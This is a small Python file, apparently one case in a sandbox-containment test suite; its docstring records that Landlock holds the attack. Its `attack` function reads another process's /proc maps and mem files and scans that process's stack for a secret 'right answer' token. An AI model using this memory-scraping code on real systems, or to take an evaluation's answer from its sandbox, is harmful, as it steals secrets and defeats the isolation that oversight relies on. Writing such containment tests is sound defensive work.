"""Look for the right answer in the memory of another process of the same user.

Seen: held
Held from: landlock
Bare: depends: on whether the machine lets a process read another that is not below it
"""

import re


def attack(sibling, gat, **others):
    secret = re.compile(gat[::-1].encode() + b"[0-9a-f]{32}")
    with open(f"/proc/{sibling}/maps") as maps, open(f"/proc/{sibling}/mem", "rb") as memory:
        for line in maps:
            bounds, rights, _, _, _, *name = line.split()
            if rights.startswith("rw") and name and name[0] == "[stack]":
                begin, end = (int(bound, 16) for bound in bounds.split("-"))
                memory.seek(begin)
                if found := secret.search(memory.read(end - begin)):
                    return f"bitten: {found[0].decode()}"
    return "nothing"
